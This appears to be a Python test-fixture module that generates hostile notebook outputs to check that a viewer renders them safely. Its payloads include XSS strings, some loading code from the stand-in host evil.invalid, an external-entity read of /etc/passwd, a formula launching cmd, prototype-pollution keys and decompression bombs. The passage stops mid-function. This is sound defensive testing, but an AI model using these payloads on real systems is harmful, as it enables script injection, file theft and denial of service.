"""Notebooks that somebody wrote to do harm: names that would be markup, and data that is not what it says.

The one place for both suites: ``tests/views/test_hostile.py`` pushes :data:`WORDS` through what Python writes, and
``js/tests/hostile.browser.test.ts`` shows every payload of :func:`payloads` in a real browser, as every kind of view.

Every payload begins as :func:`honest`, a table that every kind of view can show, so that one change to it is one for
each of them. Code in it would call ``__hit``.
"""

from __future__ import annotations

import base64
import copy
import dataclasses
import itertools
import json
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from deepseek_lab.base import events as ev
from deepseek_lab.base.ranks import RankVitals
from deepseek_lab.base.timeline import MemoryEvent, MemoryTimeline
from deepseek_lab.views import _page, _run
from deepseek_lab.views._packed import _varints, _zigzag

KIND = "@kind"
"""Stands for the kind of view as which a payload is shown."""
ROWS = 6

WORDS: dict[str, str] = {
    "script": "<script>__hit('script')</script>",
    "script that ends the data": "</script><script>__hit('end')</script>",
    "script that ends a style": "</style></title></textarea><script>__hit('style')</script>",
    "script in a comment": "--><script>__hit('comment')</script><!--",
    "script from elsewhere": "<script src=https://evil.invalid/x.js></script>",
    "module from elsewhere": "<script type=module>import 'https://evil.invalid/x.mjs'</script>",
    "image that fails": "<img src=x onerror=__hit('image')>",
    "image from elsewhere": "<img src=https://evil.invalid/pixel.png>",
    "svg that loads": "\"'><svg onload=__hit('svg')>",
    "svg with a script": "<svg><script>__hit('inner')</script></svg>",
    "svg that animates": "<svg><animate onbegin=__hit('animate') attributeName=x dur=1s>",
    "math with a link": "<math href=javascript:__hit('math')>x</math>",
    "frame with a page": "<iframe srcdoc='<script>parent.__hit(1)</script>'></iframe>",
    "frame with a script": "<iframe src=javascript:parent.__hit(1)></iframe>",
    "object": "<object data=javascript:__hit('object')></object><embed src=javascript:__hit('embed')>",
    "link": "<a href=javascript:__hit('link') autofocus onfocus=__hit('focus')>click</a>",
    "style": "<style>@import 'https://evil.invalid/x.css';*{background:url(https://evil.invalid/y)}</style>",
    "style sheet": "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:__hit(1)'>",
    "base": "<base href=https://evil.invalid/>",
    "form": "<form action=https://evil.invalid/><input autofocus onfocus=__hit('form')></form>",
    "details": "<details open ontoggle=__hit('toggle')>x</details>",
    "marquee": "<marquee onstart=__hit('marquee')>x</marquee>",
    "video": "<video><source onerror=__hit('video')></video>",
    "template": "<template shadowrootmode=open><img src=x onerror=__hit('shadow')></template>",
    "attribute in double quotes": '" onmouseover="__hit(1)" onfocus="__hit(2)" autofocus tabindex=1 x="',
    "attribute in single quotes": "' onmouseover='__hit(1)' style='position:fixed;inset:0' x='",
    "attribute without quotes": "x onmouseover=__hit(1) onpointermove=__hit(2) ",
    "javascript link": "javascript:__hit('link')",
    "javascript link in disguise": "JaVa\tScRiPt\n:__hit('link')",
    "data link": "data:text/html,<script>parent.__hit(1)</script>",
    "style in words": "red;background:url(https://evil.invalid/x);}</style>*{display:none",
    "entities": "&lt;img src=x onerror=__hit(1)&gt;&#60;script&#62;__hit(2)&#60;/script&#62;",
    "end of CDATA": "]]><script>__hit('cdata')</script><![CDATA[",
    "processing instruction": "<?xml-stylesheet href='javascript:__hit(1)'?><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "template literal": "${__hit('literal')}`+__hit('backtick')+`{{constructor.constructor('__hit(1)')()}}",
    "formula": '=HYPERLINK("https://evil.invalid","click")+cmd|\' /C calc\'!A0',
    "prototype": "__proto__",
    "constructor": "constructor",
    "own property": "hasOwnProperty",
    "text of an object": "toString",
    "path into the prototype": "__proto__.polluted.constructor.prototype",
    "null": "null",
    "lone surrogate": "a\ud800b\udfff",
    "control characters": "a\x00\x01\x07\x08\x0b\x0c\x7f\x85\u2028\u2029b",
    "terminal escapes": "\x1b[31mred\x1b[2J\x1b]0;title\x07\x1b]8;;https://evil.invalid\x07x\x1b]8;;\x07\x9b31m",
    "right to left": "safe\u202egnp.exe\u202c\u2066x\u2069\u200f",
    "zero width": "pay\u200bpal\u200d\ufeff\u2060",
    "marks that pile up": "Z" + "\u0337\u0322\u0489" * 300,
    "wide and joined": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20 + "漢字",
    "not a character": "\uffff\ufffe\ufdd0",
    "line breaks": "a\r\nb\nc\td\r" * 20,
    "digits": "layer_00000000000000000000000099999999999999999999999",
    "dots": "." * 500,
    "commas": "9," * 400 + "9",
    "format": "%s%n{0}{__class__.__mro__}%(x)s",
    "path": "../../../../etc/passwd\x00.png",
    "enormous": "x" * 300_000,
    "enormous and wide": "漢\ud83d" * 10_000,
    "enormous markup": "<b><img src=x onerror=__hit(1)>" * 4_000,
    "nothing": "",
}
"""Names and texts by what they try."""


@dataclasses.dataclass(frozen=True)
class Payload:
    """One hostile output.

    Args:
        name: What it tries.
        text: The output's data as JSON; :data:`KIND` in it stands for a kind of view.
        shows: What a reader must see as every kind of view: ``data``, a ``message``, or ``either``.
        refused: Kinds of view that must say why they show nothing.
    """

    name: str
    text: str
    shows: str = "either"
    refused: tuple[str, ...] = ()


@dataclasses.dataclass
class Packed:
    """A packed table that can be changed before it is packed."""

    header: dict[str, Any]
    bodies: dict[str, bytes]

    def column(self, name: str) -> dict[str, Any]:
        found: dict[str, Any] = next(one for one in self.header["columns"] if one["name"] == name)
        return found

    def put(self, name: str, kind: str, body: bytes, **more: Any) -> None:
        """Add a column, or put it in the place of the one of that name."""
        head = {"name": name, "type": kind, "bytes": len(body), **more}
        columns = self.header["columns"]
        places = [at for at, one in enumerate(columns) if one["name"] == name]
        columns[places[0] if places else len(columns) : places[0] + 1 if places else len(columns)] = [head]
        self.bodies[name] = body

    @property
    def meta(self) -> dict[str, Any]:
        made: dict[str, Any] = self.header["meta"]
        return made

    def raw(self) -> bytes:
        return _framed(json.dumps(self.header).encode(), *self.bodies.values())

    def packed(self) -> str:
        return packed(self.raw())


def _framed(header: bytes, *bodies: bytes) -> bytes:
    return struct.pack("<I", len(header)) + header + b"".join(bodies)


def packed(raw: bytes) -> str:
    return base64.b64encode(zlib.compress(raw, 1 if len(raw) > 1 << 20 else 9)).decode()


def _steps(values: list[int]) -> bytes:
    return _varints(_zigzag(value - before) for value, before in zip(values, [0, *values], strict=False))


def _events(word: str) -> list[dict[str, Any]]:
    """An event of every kind with the word in each of its texts."""
    made = [
        ev.RunStarted(run=word, at_s=1.0, verb=word, targets=(word,), flags={word: word}, cell=word),
        ev.MachineSeen(run=word, processor=word, num_threads=1, memory_bytes=1, versions={word: word}),
        ev.TargetFound(run=word, target=word, type_name=word),
        ev.GraphCaptured(run=word, target=word, graph=word, nodes=(), signature=word, capture_s=0.1),
        ev.CandidateStarted(run=word, graph=word, candidate=word),
        ev.CandidateEnded(run=word, graph=word, candidate=word + "2", status=word, reason=word, speedup=2.0,
                          speedup_ci95=(1.0, 3.0), median_ms=1.0, max_rel_error=0.0, build_s=1.0),
        ev.PlanChosen(run=word, graph=word, candidate=word, code=""),
        ev.LiveMeasured(run=word, target=word, graph=word, eager_ms=2.0, median_ms=1.0, speedup=2.0,
                        speedup_ci95=(1.9, 2.1), num_rounds=3),
        ev.Decided(run=word, target=word, graph=word, chosen=word, reason=word),
        ev.GraphBreak(run=word, target=word, reason=word, file=word, line=3),
        ev.FellBack(run=word, target=word, reason=word),
        ev.Progressed(run=word, done=3, total=6, unit=word),
        ev.Measured(run=word, step=1, values={word: 1.0}),
        ev.RanksSeen(run=word, ranks=(RankVitals(0, word, why=word, num_replaced=2, loss=1.0, waiting=0.5,
                                                 late_s=0.1, memory_bytes=1, link_bytes_per_s=2.0),)),
        ev.SearchStarted(run=word, at_s=1.0, study=word, metrics=(word, word + "2"), directions=("max", word),
                         num_trials=9, limit_s=60.0, num_workers=2, sampler=word),
        ev.SpaceFound(run=word, name=word, space="log", low=0.1, high=3.0, default=word),
        ev.SpaceFound(run=word, name=word + "2", space="choice", labels=(word, word + "3"), default=word),
        ev.SearchJudged(run=word, ranks=(ev.Rank(0.1, 0.5, 7),), importances={word: 0.7, word + "2": 0.3}),
        ev.SearchCompared(run=word, compared=ev.Compared(word, (0.5, 0.4), (0.6, 0.5), 0.1, (0.05, 0.15), True)),
        ev.Noted(run=word, text=word),
        ev.RunEnded(run=word, reason=word),
    ]  # fmt: skip
    return [_run._light(event) if len(word) <= _run.MAX_TEXT else _whole(event) for event in made]


def _whole(event: ev.Event) -> dict[str, Any]:
    """An event with its texts at full length, as our own code would never write it."""
    return {"kind": event.kind, **dataclasses.asdict(event)}


def honest(word: str = "plain") -> Packed:
    """A table that each kind of view can show; ``word`` stands in every place that a notebook can set."""
    code = bytes(ROWS)
    floats = struct.pack(f"<{ROWS}f", *(0.5 * row - 1 for row in range(ROWS)))
    made = Packed({"schema": 1, "rows": ROWS, "columns": [], "meta": {}}, {})
    for name in ("at", "step", "line"):
        made.put(name, "int", _steps(list(range(ROWS))))
    made.put("bytes", "int", _steps([8, 1024, 2048, 2048, 512, 16]))
    made.put("context", "int", _steps([0, 1, 0, 1, 0, 1]))
    made.put("value", "float", floats)
    made.put("name", "numbered", code + _varints(_zigzag(row and 1) for row in range(ROWS)), words=[word])
    for name in ("module", "shape", "dtype", "file", "series", f"{word} text"):
        made.put(name, "text", code, words=[word])
    made.put("op", "text", bytes([0, 1, 2, 2, 2, 3]), words=["input", "parameter", word + "op", "output"])
    made.put("mark", "text", bytes([0, 0, 1, 2, 0, 0]), words=["", "fused", word + "mark"])
    made.put(f"{word} number", "float", floats)
    distances = _varints(_zigzag(step) for step in (1, 1, 1, 1))
    made.put("inputs", "ragged", bytes([0, 0, 1, 1, 1, 1]) + distances)
    made.put("frees", "ragged", bytes([0, 0, 0, 1, 0, 0]) + _varints([_zigzag(2)]))
    for name, words, codes in (
        ("purpose", ["defaults", "search", word + "purpose"], [0, 1, 1, 1, 1, 2]),
        ("status", ["complete", "failed", "stopped", "running"], [0, 0, 0, 1, 2, 3]),
        ("error", ["", word + "error"], [0, 0, 0, 1, 0, 0]),
        ("param1", [word, word + "3"], [0, 1, 0, 1, 0, 1]),
    ):
        made.put(name, "text", bytes(codes), words=words)
    for name in ("trial", "config", "at_ms"):
        made.put(name, "int", _steps(list(range(ROWS))))
    made.put("allowed", "int", _steps([1, 1, 1, 1, 0, 1]))
    made.put("cost", "float", struct.pack(f"<{ROWS}f", 1, 1, 1, 0.25, 1, 1))
    for name in ("seconds", "value0", "value1", "param0"):
        made.put(name, "float", floats)
    for name in ("steps", "curve"):
        made.put(name, "lists", bytes([2] * ROWS) + struct.pack(f"<{2 * ROWS}f", *range(2 * ROWS)))
    made.meta.update(
        params=[[word, False], [word + "2", True]],
        totals={"trials": 6, "configs": 5, "cost": 4.5, "failed": 1, "stopped": 1},
        pruning=[5],
        text=word,
        events=_events(word),
        done=3, total=6, unit=word, values=6, now_s=1.0, start_s=0.0,
        words=[word, word + "2"],
        contexts={name: [0, 1] for name in ("category", "module", "operator", "file", "line")},
        tick_s=0.001,
        device=word,
        shape=[ROWS, 5],
        label=word,
        labels={"rows": [word] * ROWS, "columns": [word] * 5},
        xLabel=word, yLabel=word,
        axes={"x": "at", "y": f"{word} number", "colour": f"{word} text"},
        columns={f"{word} number": {"unit": word, "better": "lower", "bar": True}},
        cut={"shown": 6, "total": 60, "how": word},
        overlays=[
            {"name": f"{word} number", "label": word, "unit": word, "kind": "number", "sum": True},
            {"name": f"{word} text", "label": word, "unit": word, "kind": "text"},
        ],
        breaks=[{"reason": word, "file": word, "line": 2, "after": 2}],
    )  # fmt: skip
    return made


def output(packed: Any, title: Any = "a title", **changes: Any) -> str:
    """The data of an output with one view of any kind."""
    made = _page.payload("run", [])
    made["views"] = [{"kind": KIND, "title": title, "packed": packed}]
    return json.dumps(made | changes)


def payloads(*, bombs: bool = True) -> Iterator[Payload]:
    """Every payload, each under a name of its own; ``bombs`` take seconds to make."""
    for what, word in WORDS.items():
        yield Payload(f"word: {what}", output(honest(word).packed(), word, run=word, version=word), "data")
    yield from _wrong_outputs()
    yield from _wrong_bytes()
    for what, change in (_HEADERS | _COLUMNS).items():
        made = honest()
        change(made)
        yield Payload(f"table: {what}", output(made.packed()), refused=_refused_by(what))
    for what, change in _METAS.items():
        made = honest()
        change(made.meta)
        yield Payload(f"meta: {what}", output(made.packed()), refused=_refused_by(what))
    yield from _random()
    if bombs:
        yield from _bombs()


_ALL = ("graph", "run", "search", "text", "timeline", "heatmap", "lines", "scatter", "table")
_READ_WORDS = ("graph", "run", "search", "lines", "scatter", "table")
_READ_LISTS = ("graph", "timeline")
_REFUSED: dict[tuple[str, ...], str] = {
    _ALL: "a newer schema, a schema that is an object, rows below zero, rows that are a part, rows in words, "
    "too many rows, columns that are an object, columns that are nothing, columns that are null, too many columns, "
    "meta that is a list, meta that is a text, fewer bytes than nothing, a part of a byte, bytes in words, "
    "more bytes than there are, words that are no text, words that are a text, more words than rows, "
    "columns with enormous names, names that are no text, an unknown type, the type of the prototype, "
    "a type that is a list, millions of rows that are not there",
    tuple(kind for kind in _ALL if kind != "text"): "no bytes, more rows than there are, fewer rows than there are",
    _READ_WORDS: "words that are not there, words of an enormous number, no words",
    ("timeline", "heatmap", *_READ_WORDS): "numbers without an end",
    _READ_LISTS: "lists of what comes later, lists of what was before all, lists of a length that cannot be",
    ("timeline",): "lists of themselves, lists that end one block twice, whole numbers below zero, "
    "time that stands still, time that goes backwards, time without measure, "
    "contexts of different lengths, folded without its columns",
    ("heatmap",): "a shape below zero, a shape that is enormous, a shape of one dimension, a shape of parts, "
    "labels of another length, labels that are no text",
    ("run", "search"): "events of no list",
    ("search",): "numbers in lists that are not there, lists of numbers without an end, ranges without names",
    ("graph",): "a second graph that is no table, a second graph that is an object, a second graph of another kind",
    ("text",): "the text is a list",
}  # fmt: skip
"""What must not be believed, by the kinds of view that read it."""


def _refused_by(what: str) -> tuple[str, ...]:
    return next((kinds for kinds, names in _REFUSED.items() if what in names.split(", ")), ())


def _wrong_outputs() -> Iterator[Payload]:
    """Data that is no output, or one of another version."""
    good = honest().packed()
    view = {"kind": KIND, "title": "t", "packed": good}
    whole = _page.payload("run", [])
    for what, data in {
        "nothing": None, "a list": [[view]], "a number": 7, "a text": "<img src=x onerror=__hit(1)>", "empty": {},
        "no views": whole, "views that are an object": whole | {"views": {"0": view, "length": 1}},
        "views of nothing": whole | {"views": [None, [], 7, "x", {}]},
        "an unknown kind": whole | {"views": [view | {"kind": "<script>__hit(1)</script>"}]},
        "the kind __proto__": whole | {"views": [view | {"kind": "__proto__"}]},
        "the kind constructor": whole | {"views": [view | {"kind": "constructor"}]},
        "an older schema": whole | {"schema": 0, "views": [view]},
        "a newer schema": whole | {"schema": 2, "views": [view]},
        "a schema in words": whole | {"schema": "1", "views": [view]},
        "no schema": {"views": [view]},
        "a packed table that is a list": whole | {"views": [view | {"packed": [good]}]},
        "a packed table that is missing": whole | {"views": [{"kind": KIND, "title": "t"}]},
    }.items():  # fmt: skip
        yield Payload(f"output: {what}", json.dumps(data), "message")
    for what, data in {
        "a title that is an object": whole | {"views": [view | {"title": {"toString": 1}}]},
        "a run that is an object": whole | {"run": {"toString": 1}, "version": [], "views": [view]},
        "thousands of views": whole | {"views": [view] * 3000},
        "an enormous title": whole | {"views": [view | {"title": "<b>title " * 500_000}]},
        "own keys of the prototype": whole | {"views": [view], "constructor": {"prototype": {"polluted": 1}}},
    }.items():
        yield Payload(f"output: {what}", json.dumps(data), "data")
    text = json.dumps(whole | {"views": [view]})
    own = text[:-1] + ',"__proto__":{"polluted":1,"views":[],"schema":9}}'
    yield Payload("output: the key __proto__", own, "data")
    yield Payload("output: the same key twice", text[:-1] + ',"views":7}', "message")
    yield Payload("output: nesting", "[" * 200_000 + "]" * 200_000, "message")
    yield Payload(
        "output: a schema that is infinite", text.replace('"schema": 1', '"schema": 1e999'), "message"
    )


def _wrong_bytes() -> Iterator[Payload]:
    """What cannot be unpacked."""
    raw, good = honest().raw(), honest().packed()
    deflated = zlib.compress(raw, 9)
    (length,) = struct.unpack_from("<I", raw)
    header = raw[4 : 4 + length]
    based = {
        "no base64": "%%%<script>", "base64 of a length that cannot be": good + "A", "nothing": "",
        "spaces": " \n\t ", "a wide character": good[:9] + "漢" + good[9:], "base64 for addresses": "-_-_" * 9,
        "half of it": good[: len(good) // 2], "a lone surrogate": "\ud800" + good,
        "a data link": f"data:;base64,{good}", "three million letters": "A" * 3_000_000,
    }  # fmt: skip
    deflate = {
        "no deflate": raw, "deflate without its frame": deflated[2:-4], "a gzip file": b"\x1f\x8b\x08\0" + deflated,
        "deflate that ends early": deflated[:-9], "a wrong check sum": deflated[:-4] + b"\0\0\0\0",
        "more after its end": deflated + b"more", "a changed byte": deflated[:40] + b"\xff" + deflated[41:],
        "a dictionary that is not there": b"\x78\xbb\0\0\0\1" + deflated[2:],
    }  # fmt: skip
    plain = {
        "no bytes": b"", "three bytes": b"\1\0\0", "a header of no bytes": _framed(b""),
        "a header longer than all": struct.pack("<I", 2**32 - 1) + header,
        "a header one byte too long": struct.pack("<I", len(raw) - 3) + raw[4:],
        "a header one byte too short": struct.pack("<I", length - 1) + raw[4:],
        "a header that is no JSON": _framed(b"{'schema': 1}"), "a header that is script": _framed(b"__hit('header')"),
        "a header that is no text": _framed(b"\xff\xfe{}"), "a header that is a list": _framed(b"[]"),
        "a header that is null": _framed(b"null"), "a header of NaN": _framed(b'{"schema":NaN}'),
        "a header that is cut off": raw[: length // 2],
        "a header with a surrogate in UTF-8": _framed(b'"\xed\xa0\x80"'),
        "a header that is nested": _framed(b"[" * 1_000_000 + b"]" * 1_000_000),
        "a header that is objects in objects": _framed(b'{"a":' * 300_000 + b"1" + b"}" * 300_000),
        "no bodies": raw[: 4 + length],
        "bodies that are cut off": raw[:-1],
    }  # fmt: skip
    for what, text in based.items():
        yield Payload(f"base64: {what}", output(text), "message")
    for what, data in deflate.items():
        yield Payload(f"deflate: {what}", output(base64.b64encode(data).decode()), "message")
    for what, data in plain.items():
        yield Payload(f"bytes: {what}", output(packed(data)), "message")


def _set(*path: Any, to: Any) -> Callable[[Any], None]:
    """A change of one place."""

    def change(target: Any) -> None:
        if isinstance(target, Packed):
            target = target.header
        for step in path[:-1]:
            target = target[step]
        target[path[-1]] = to

    return change


def _each(**fields: Any) -> Callable[[Packed], None]:
    """A change of the header of every column."""

    def change(made: Packed) -> None:
        for column in made.header["columns"]:
            column.update(copy.deepcopy(fields))

    return change


def _bodies(kind: str, body: Callable[[], bytes]) -> Callable[[Packed], None]:
    """Another body for every column of a type."""

    def change(made: Packed) -> None:
        for column in list(made.header["columns"]):
            if column["type"] == kind:
                rest = {key: value for key, value in column.items() if key not in ("name", "type", "bytes")}
                made.put(column["name"], kind, body(), **rest)

    return change


def _more_columns(count: int) -> Callable[[Packed], None]:
    def change(made: Packed) -> None:
        for at in range(count):
            made.put(f"column {at}", "int", bytes(ROWS))

    return change


def _same_names(made: Packed) -> None:
    for column in made.header["columns"]:
        column["name"] = "__proto__"


_HUGE = 2**53
_ENDLESS = b"\xff" * 12
_LARGEST = b"\xfe" + b"\xff" * 6 + b"\x7f"
_ONES = bytes([1] * ROWS)
_HEADERS: dict[str, Callable[[Packed], None]] = {
    "a newer schema": _set("schema", to=2),
    "a schema that is an object": _set("schema", to={"toString": 1}),
    "rows below zero": _set("rows", to=-1),
    "rows that are a part": _set("rows", to=5.5),
    "rows in words": _set("rows", to="6"),
    "more rows than there are": _set("rows", to=7),
    "fewer rows than there are": _set("rows", to=5),
    "millions of rows that are not there": _set("rows", to=5_000_000),
    "too many rows": _set("rows", to=_HUGE),
    "columns that are an object": _set("columns", to={"length": 3}),
    "columns that are nothing": _set("columns", to=None),
    "columns that are null": _set("columns", to=[None] * 9),
    "no columns": _set("columns", to=[]),
    "as many columns as may be": _more_columns(210),
    "too many columns": _more_columns(300),
    "meta that is a list": _set("meta", to=["events"]),
    "meta that is a text": _set("meta", to="<img src=x onerror=__hit(1)>"),
    "meta that is null": _set("meta", to=None),
    "meta with keys of the prototype": _set(
        "meta", to=json.loads('{"__proto__":{"text":"x"},"constructor":1}')
    ),
}
_COLUMNS: dict[str, Callable[[Packed], None]] = {
    "columns of one name": _same_names,
    "columns with enormous names": _each(name="<img src=x onerror=__hit(1)>" * 40_000, bytes=_HUGE),
    "names that are no text": _each(name={"toString": 1}),
    "an unknown type": _each(type="<script>__hit(1)</script>"),
    "the type of the prototype": _each(type="__proto__"),
    "a type that is a list": _each(type=["int"]),
    "fewer bytes than nothing": _each(bytes=-1),
    "a part of a byte": _each(bytes=0.5),
    "no bytes": _each(bytes=0),
    "more bytes than there are": _each(bytes=_HUGE),
    "bytes that overlap": _each(bytes=6),
    "an offset and a length": _each(offset=-100, length=2**40, start=-1),
    "bytes in words": _each(bytes="6"),
    "words that are no text": _each(words=[{"toString": 1}, None, 7]),
    "words that are a text": _each(words="abc"),
    "no words": _each(words=[]),
    "more words than rows": _each(words=["word"] * 1000),
    "all of them text": _each(type="text"),
    "all of them whole numbers": _each(type="int"),
    "all of them numbers": _each(type="float"),
    "all of them lists": _each(type="ragged"),
    "all of them numbered": _each(type="numbered", words=["x"]),
    "words that are not there": _bodies("text", lambda: bytes([9] * ROWS)),
    "words of an enormous number": _bodies("text", lambda: (b"\xff" * 7 + b"\x01") * ROWS),
    "numbers without an end": _bodies("int", lambda: _ENDLESS),
    "enormous whole numbers": _bodies("int", lambda: _LARGEST * ROWS),
    "whole numbers below zero": _bodies("int", lambda: _steps([-1, -2, -3, -4, -5, -6])),
    "whole numbers that go up and down": _bodies("int", lambda: _steps([2**45, -(2**45)] * 3)),
    "NaN": _bodies("float", lambda: struct.pack(f"<{ROWS}f", *[float("nan")] * ROWS)),
    "Infinity": _bodies("float", lambda: struct.pack(f"<{ROWS}f", *[float("inf"), -float("inf")] * 3)),
    "the largest and the smallest": _bodies("float", lambda: struct.pack("<6f", 3.4e38, -3.4e38, 1e-45, 0, -0.0, 1)),
    "lists of themselves": _bodies("ragged", lambda: _ONES + bytes(ROWS)),
    "lists of what comes later": _bodies("ragged", lambda: _ONES + _varints([_zigzag(-1)] * ROWS)),
    "lists of what was before all": _bodies("ragged", lambda: _ONES + _varints([_zigzag(99)] * ROWS)),
    "lists of a length that cannot be": _bodies("ragged", lambda: b"\xff\xff\xff\xff\x0f" * ROWS),
    "lists in a circle": _bodies("ragged", lambda: _ONES + _varints(map(_zigzag, [-5, 1, 1, 1, 1, 1]))),
    "lists that end one block twice": _bodies("ragged", lambda: bytes([0, 0, 1, 1, 1, 1, 4, 6, 8, 10])),
    "numbers in lists that are not there": _bodies("lists", lambda: bytes([9] * ROWS)),
    "lists of numbers without an end": _bodies("lists", lambda: b"\xff\xff\xff\xff\x0f" * ROWS),
    "numbers in lists that are none": _bodies(
        "lists", lambda: bytes([2] * ROWS) + struct.pack("<12f", *[float("nan"), float("inf")] * 6)
    ),
    "numbered names that overflow": _bodies("numbered", lambda: bytes(ROWS) + _LARGEST * ROWS),
}  # fmt: skip
_WRONG = ({"toString": 1}, [[[[]]]], -1, 1e300)
_METAS: dict[str, Callable[[dict[str, Any]], None]] = {
    **{
        f"every entry is {json.dumps(wrong)}": lambda meta, wrong=wrong: meta.update(dict.fromkeys(meta, wrong))
        for wrong in (None, True, 0, "<b onclick=__hit(1)>", *_WRONG)
    },
    "the text is a list": _set("text", to=["<b>"]),
    "a state that cannot be said": _set("state", to={"toString": 1}),
    "events of no list": _set("events", to={"length": 1}),
    "events of nothing": _set("events", to=[None, [], 7, {}, {"kind": "__proto__"}, {"kind": {"toString": 1}}]),
    "numbers of events are null": lambda meta: _numbers(meta["events"], None),
    "numbers of events are enormous": lambda meta: _numbers(meta["events"], 1.7e308),
    "numbers of events are below zero": lambda meta: _numbers(meta["events"], -1.7e308),
    "steps beyond all": lambda meta: meta.update(done=1e308, total=1e-308, now_s=-1e308, values=1e308),
    "contexts of different lengths": _set("contexts", "line", to=[0]),
    "contexts that name nothing": _set("contexts", "module", to=[99, -1]),
    "contexts that are enormous": _set("contexts", "line", to=[1e308, -1e308]),
    "words of contexts that are no text": _set("words", to=[{"toString": 1}, 7]),
    "time that stands still": _set("tick_s", to=0),
    "time that goes backwards": _set("tick_s", to=-1),
    "time without measure": _set("tick_s", to=1e308),
    "time that is hardly there": _set("tick_s", to=5e-324),
    "out of memory after all": _set("out_of_memory_at", to=2**52),
    "folded without its columns": _set("folded", to=True),
    "a shape below zero": _set("shape", to=[-6, -5]),
    "a shape that is enormous": _set("shape", to=[16_384, 16_384]),
    "a shape of one dimension": _set("shape", to=[6]),
    "a shape of parts": _set("shape", to=[2.5, 2]),
    "labels of another length": _set("labels", "rows", to=["a"]),
    "labels that are no text": _set("labels", "rows", to=[{"toString": 1}] * ROWS),
    "axes that are not there": _set("axes", to={"x": "hasOwnProperty", "y": 7, "colour": "__proto__"}),
    "roles that are no roles": _set("columns", to={"at": {"offset": 1e308, "unit": ["<b>"], "better": "__proto__"}}),
    "an offset that swallows all": _set("columns", to={"value": {"offset": 1e308, "bar": True, "better": "higher"}}),
    "a cut that is enormous": _set("cut", to={"shown": 1e308, "total": -1e308, "how": "constructor"}),
    "overlays of nothing": _set("overlays", to=[None, [], 7, {}, {"name": {"toString": 1}}, {"name": "__proto__"}]),
    "overlays of other columns": _set("overlays", to=[{"name": "op", "label": ["<b>"], "kind": "number", "sum": 1}]),
    "thousands of overlays": _set("overlays", to=[{"name": "value", "kind": "number", "unit": "x" * 99}] * 9_999),
    "breaks of nothing": _set("breaks", to=[None, [], 7, {}, {"reason": {"toString": 1}}]),
    "breaks beyond all": _set("breaks", to=[{"reason": "x" * 10_000, "line": 1e308, "after": -1e308}] * 999),
    "a second graph that is no table": lambda meta: meta.update(after="<img src=x onerror=__hit(1)>"),
    "a second graph that is an object": lambda meta: meta.update(after={"toString": 1}),
    "a second graph of another kind": lambda meta: meta.update(after=honest().packed()),
    "ranges without names": _set("params", to=[[7, True], [], None]),
    "thousands of ranges": _set("params", to=[["<b>range", True]] * 9_999),
    "totals beyond all": _set("totals", to={"trials": 1e308, "configs": -1e308, "cost": None, "failed": "x"}),
    "trials that end and are none": _set("pruning", to=[{"toString": 1}, -1, 1e308, "x"]),
    "a search of an enormous length": _set("start_s", to=-1e308),
    "thousands of series": lambda meta: meta["events"].append(_measured(30_000)),
    "thousands of candidates": lambda meta: meta["events"].extend(_candidates(30_000)),
    "thousands of graphs": lambda meta: meta["events"].extend(_graphs(5_000)),
    "thousands of remarks": lambda meta: meta["events"].extend(_remarks(30_000)),
}  # fmt: skip
_INFINITE = ("tick_s", "done", "total", "now_s", "shape", "cut", "out_of_memory_at", "events")


def _numbers(value: Any, to: Any) -> None:
    """Every number inside of a value becomes another."""
    for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
        if isinstance(inner, (dict, list)):
            _numbers(inner, to)
        elif isinstance(inner, (int, float)) and not isinstance(inner, bool):
            value[key] = to


def _measured(count: int) -> dict[str, Any]:
    values = {f"series {at}": float(at) for at in range(count)}
    return _whole(ev.Measured(run="r", step=1, values=values))


def _candidates(count: int) -> list[dict[str, Any]]:
    return [_whole(ev.CandidateStarted(run="r", graph="g", candidate=f"c{at}")) for at in range(count)]


def _graphs(count: int) -> list[dict[str, Any]]:
    return [_whole(ev.CandidateStarted(run="r", graph=f"g{at}", candidate="c")) for at in range(count)]


def _remarks(count: int) -> list[dict[str, Any]]:
    return [_whole(ev.Noted(run="r", text=f"<b>{at}")) for at in range(count)]


def _bombs() -> Iterator[Payload]:
    """A few kilobytes that would fill the memory, or keep a page busy for minutes."""
    behind = packed(honest().raw() + bytes(1 << 27))
    yield Payload("bomb: behind an honest table", output(behind), "message")
    for what, byte in (("zeros", b"\0"), ("letters", b"[")):
        yield Payload(
            f"bomb: {what}", output(packed(struct.pack("<I", 1 << 27) + byte * (1 << 27))), "message"
        )
    yield Payload("bomb: within a bomb", output(packed(zlib.compress(bytes(1 << 27), 9))), "message")
    head = b'{"schema":1,"rows":0,"columns":[{"name":"a","type":"text","bytes":0,"words":['
    words = head + b'"",' * 26_000_000 + b'""]}]}'
    yield Payload("bomb: a header of words", output(packed(_framed(words))), "message")
    things = head + b'"a"]}],"meta":{"events":[' + b"{}," * 5_000_000 + b"{}]}}"
    yield Payload("bomb: a header of objects", output(packed(_framed(things))), "message")
    text = honest()
    text.meta["text"] = "a line of it\n" * 2_000_000
    yield Payload("bomb: a text without an end", output(text.packed()))
    for what, word in (("one word", "x" * 10_000_000), ("a wide word", "漢" * 1_000_000)):
        made = honest()
        made.column("name")["words"] = [word]
        made.column("op")["words"] = ["input", "parameter", word, "output"]
        yield Payload(f"bomb: {what}", output(made.packed()))
    for rows in (300_000, 5_000_000):
        tall = _tall(rows, "word").packed()
        yield Payload(f"bomb: {rows:,} rows", output(tall), refused=("graph",))
    yield Payload("bomb: rows of a long word", output(_tall(20_000, "word " * 100_000).packed()))
    yield Payload("bomb: contexts of a long word", output(_many_contexts().packed()))
    yield Payload("bomb: more cells than memory", output(_wide().packed()), "message")
    yield Payload("bomb: millions of references", output(_tangled().packed()), refused=("graph",))


def _tall(rows: int, word: str) -> Packed:
    """The honest table with so many rows of next to nothing."""
    made = honest()
    made.header["rows"] = rows
    flat = {"int": rows, "text": rows, "numbered": 2 * rows, "ragged": rows, "lists": rows}
    flat["float"] = 4 * rows
    for column in list(made.header["columns"]):
        if column["type"] == "float" and rows > 1_000_000:
            made.header["columns"].remove(column)
            del made.bodies[column["name"]]
            continue
        rest = {"words": [word]} if "words" in column else {}
        made.put(column["name"], column["type"], bytes(flat[column["type"]]), **rest)
    made.meta["labels"] = {}
    made.meta["shape"] = [1000, rows // 1000]
    return made


def _many_contexts() -> Packed:
    made = honest()
